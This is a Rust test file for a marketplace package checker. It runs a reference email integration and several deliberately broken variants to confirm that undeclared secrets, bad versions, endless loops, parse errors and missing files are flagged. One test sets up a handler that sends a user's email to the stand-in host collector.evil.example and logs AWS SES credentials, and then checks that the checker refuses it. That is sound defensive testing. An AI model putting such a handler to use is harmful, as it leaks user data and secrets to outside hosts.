//! The checks over the reference package and over packages each broken in one way.

use actionflow_marketplace::{
    check_package, History, Manifest, Package, PackageLimits, Report, Version,
};

use crate::{limits, runtime, ses_esm_package, ses_package};

async fn check(package: &Package, history: &History) -> Report {
    check_package(
        &runtime(),
        package,
        &PackageLimits::default(),
        history,
        &limits(),
        None,
    )
    .await
}

fn edit_manifest(package: &mut Package, edit: impl FnOnce(&mut serde_json::Value)) {
    let mut manifest: serde_json::Value =
        serde_json::from_slice(package.file("integration.json").expect("a manifest"))
            .expect("JSON");
    edit(&mut manifest);
    package.files.insert(
        "integration.json".into(),
        serde_json::to_vec_pretty(&manifest).expect("JSON"),
    );
}

fn set_code(package: &mut Package, code: &str) {
    package
        .files
        .insert("integration.action.js".into(), code.as_bytes().to_vec());
}

#[tokio::test]
async fn the_reference_package_passes_with_its_tests_run() {
    let report = check(&ses_package(), &History::default()).await;
    assert!(!report.has_errors(), "{}", report.to_text());
}

#[tokio::test]
async fn an_undeclared_secret_read_is_an_error_at_its_line() {
    let mut package = ses_package();
    let code = package.text("integration.action.js").unwrap().replace(
        "secret: event.secrets.AWS_SES_SECRET,",
        "secret: event.secrets.AWS_SES_SECRET + (event.secrets.EXTRA ?? \"\"),",
    );
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "secret_not_declared")
        .expect("flagged");
    assert_eq!(finding.file.as_deref(), Some("integration.action.js"));
    assert_eq!(finding.line, Some(11), "{}", report.to_text());
    assert!(finding.message.contains("event.secrets.EXTRA"));
}

#[tokio::test]
async fn a_configuration_field_named_like_a_secret_is_an_error() {
    let mut package = ses_package();
    edit_manifest(&mut package, |m| {
        m["configuration"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({
            "name": "API_TOKEN", "label": "Token", "required": false, "type": "string"}));
    });
    let report = check(&package, &History::default()).await;
    assert!(
        report.has("configuration_looks_secret"),
        "{}",
        report.to_text()
    );
    // Declared and never read: a warning for the reviewer.
    assert!(report.has("configuration_not_read"));
}

#[tokio::test]
async fn a_breaking_change_needs_a_major_version() {
    let previous = Manifest::parse(ses_package().file("integration.json").unwrap()).unwrap();
    let history = History {
        versions: vec![Version::parse("1.0.0").unwrap()],
        latest_published: Some(previous),
    };
    let mut package = ses_package();
    let new_required = |m: &mut serde_json::Value| {
        m["configuration"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({
            "name": "REPLY_TO", "label": "Reply to", "required": true, "type": "string"}));
    };
    edit_manifest(&mut package, |m| {
        m["version"] = "1.1.0".into();
        new_required(m);
    });
    let report = check(&package, &history).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "breaking_change")
        .expect("flagged");
    assert!(
        finding
            .message
            .contains("new required configuration REPLY_TO"),
        "{finding:?}"
    );
    edit_manifest(&mut package, |m| m["version"] = "2.0.0".into());
    let report = check(&package, &history).await;
    assert!(!report.has("breaking_change"), "{}", report.to_text());
}

#[tokio::test]
async fn a_reused_or_lower_version_is_refused() {
    let history = History {
        versions: vec![
            Version::parse("1.0.0").unwrap(),
            Version::parse("1.2.0").unwrap(),
        ],
        latest_published: None,
    };
    let report = check(&ses_package(), &history).await;
    assert!(report.has("version_reused"), "{}", report.to_text());
    let mut package = ses_package();
    edit_manifest(&mut package, |m| m["version"] = "1.1.0".into());
    assert!(check(&package, &history).await.has("version_not_higher"));
}

#[tokio::test]
async fn a_test_that_loops_forever_fails_within_the_limits() {
    let mut package = ses_package();
    let code = package.text("integration.action.js").unwrap().replace(
        "const { username, email } = event.user;",
        "while (true) {}\n  const { username, email } = event.user;",
    );
    set_code(&mut package, &code);
    let started = std::time::Instant::now();
    let report = check(&package, &History::default()).await;
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let failed: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.code == "test_failed")
        .collect();
    assert!(
        failed
            .iter()
            .any(|f| f.message.contains("cpu_limit") || f.message.contains("timed_out")),
        "{}",
        report.to_text()
    );
    assert!(report.has("no_success_test"));
}

#[tokio::test]
async fn fetching_a_host_outside_network_hosts_is_refused() {
    let mut package = ses_package();
    let code = "exports.onExecutePostUserRegistration = async (event) => {\n\
                  const res = await fetch(\"https://collector.evil.example/x?u=\" + event.user.email);\n\
                  console.log(\"sent\", res.status, event.secrets.AWS_SES_KEY, event.secrets.AWS_SES_SECRET,\n\
                    event.configuration.FROM_ADDRESS, event.configuration.TO_ADDRESS,\n\
                    event.configuration.AWS_REGION, event.configuration.SES_ENDPOINT);\n\
                };\n";
    set_code(&mut package, code);
    let test = serde_json::json!({
        "event": {"user": {"user_id": "u1", "email": "a@example.com"}},
        "fixtures": [{"request": {"method": "GET", "url": "https://collector.evil.example/x?u=a@example.com"},
                      "response": {"status": 200, "body": "ok"}}],
    });
    package.files.retain(|path, _| !path.starts_with("tests/"));
    package
        .files
        .insert("tests/leak.json".into(), serde_json::to_vec(&test).unwrap());
    let report = check(&package, &History::default()).await;
    assert!(report.has("host_not_declared"), "{}", report.to_text());
    // The wrapper refuses the request itself, so the run fails too.
    assert!(report.has("test_failed"), "{}", report.to_text());
}

#[tokio::test]
async fn missing_files_are_reported() {
    let mut package = ses_package();
    package.files.remove("logo.png");
    package.files.retain(|path, _| !path.starts_with("tests/"));
    let report = check(&package, &History::default()).await;
    for code in ["file_missing", "tests_missing"] {
        assert!(report.has(code), "{code}: {}", report.to_text());
    }
}

/// The reference package written as an ES module: the same checks, its tests run in the runtime
/// (the SES double answers its `import ses from "actionflow:ses"`).
#[tokio::test]
async fn the_es_module_reference_package_passes_with_its_tests_run() {
    let package = ses_esm_package();
    let report = check(&package, &History::default()).await;
    assert!(!report.has_errors(), "{}", report.to_text());
    assert!(!report.has("secret_not_read"), "{}", report.to_text());
    // The reads scan works on the module's text: an undeclared read is found at its line.
    let mut package = ses_esm_package();
    let code = package.text("integration.action.js").unwrap().replace(
        "secret: event.secrets.AWS_SES_SECRET,",
        "secret: event.secrets.AWS_SES_SECRET + (event.secrets.EXTRA ?? \"\"),",
    );
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "secret_not_declared")
        .expect("flagged");
    assert_eq!(finding.line, Some(10), "{}", report.to_text());
}

#[tokio::test]
async fn an_es_module_re_export_is_an_error_at_its_line() {
    let mut package = ses_esm_package();
    let code = package
        .text("integration.action.js")
        .unwrap()
        .replace(
            "import ses from \"actionflow:ses\";",
            "import ses from \"actionflow:ses\"; export * from \"node-ses\";",
        )
        .replace(
            "function escape(s) {",
            "export { escape as default } from \"./helpers.js\";\nfunction escape(s) {",
        );
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let lines: Vec<Option<u32>> = report
        .findings
        .iter()
        .filter(|f| f.code == "esm_reexport")
        .map(|f| f.line)
        .collect();
    assert_eq!(lines, [Some(5), Some(26)], "{}", report.to_text());
    assert!(report.findings.iter().all(|f| f.code != "test_failed"));
}

#[tokio::test]
async fn an_es_module_that_does_not_parse_is_reported_at_its_line() {
    let mut package = ses_esm_package();
    let code = package
        .text("integration.action.js")
        .unwrap()
        .replace("const who =", "const who = ;");
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "code_invalid")
        .expect("flagged");
    assert_eq!(finding.line, Some(15), "{}", report.to_text());
}

#[tokio::test]
async fn code_without_the_handler_does_not_load() {
    let mut package = ses_package();
    set_code(
        &mut package,
        "exports.onExecutePostLogin = async () => {};\n",
    );
    let report = check(&package, &History::default()).await;
    assert!(report.has("code_invalid"), "{}", report.to_text());
}

#[tokio::test]
async fn every_scaffold_passes_its_own_checks() {
    for trigger in actionflow_runtime::TRIGGERS {
        let package =
            actionflow_marketplace::scaffold::scaffold(trigger.id, "my-integration", "acme-labs")
                .expect("a known trigger");
        let report = check(&package, &History::default()).await;
        assert!(!report.has_errors(), "{}: {}", trigger.id, report.to_text());
    }
}

#[tokio::test]
async fn a_test_event_the_trigger_would_never_send_fails() {
    let mut package = ses_package();
    let test = serde_json::json!({"event": {"user": {"email": 42}}, "expect": {"status": "threw"}});
    package.files.insert(
        "tests/odd.json".into(),
        serde_json::to_vec(&test).expect("JSON"),
    );
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.file.as_deref() == Some("tests/odd.json"))
        .expect("flagged");
    assert!(
        finding
            .message
            .contains("not a post-user-registration event"),
        "{finding:?}"
    );
}

#[tokio::test]
async fn more_tests_than_the_limit_are_refused_without_running_them() {
    let mut package = ses_package();
    let test = package
        .file("tests/sends-welcome-email.json")
        .expect("a test")
        .to_vec();
    for i in 0..PackageLimits::default().tests_max {
        package
            .files
            .insert(format!("tests/copy-{i}.json"), test.clone());
    }
    let report = check(&package, &History::default()).await;
    assert!(report.has("too_many_tests"), "{}", report.to_text());
    assert!(!report.has("test_failed"));
}
